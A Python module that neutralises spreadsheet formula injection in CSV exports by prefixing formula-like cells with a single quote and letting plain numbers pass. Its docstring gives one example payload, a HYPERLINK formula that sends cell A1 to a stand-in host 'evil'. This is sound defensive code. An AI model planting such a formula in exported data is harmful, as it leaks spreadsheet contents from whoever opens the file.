"""CSV cells that a spreadsheet opens as text, never as a formula (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and some strip a leading tab or carriage return first), so a customer who calls herself
``=HYPERLINK("http://evil/?"&A1,"click")`` would run a formula on the manager's machine. Every CSV
export writes its cells through ``safe_cell``: such text gets a leading single quote, which the
spreadsheet shows as text. Numbers stay numbers: an int, a Decimal, or a string that is exactly a
plain decimal number (``-5.00``, a refund) is not a formula and is written as it is.
"""

from __future__ import annotations

import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: object) -> str:
    """The cell's text: ``''`` for None, numbers as they are, formula-like text prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: list[object]) -> list[str]:
    return [safe_cell(v) for v in values]
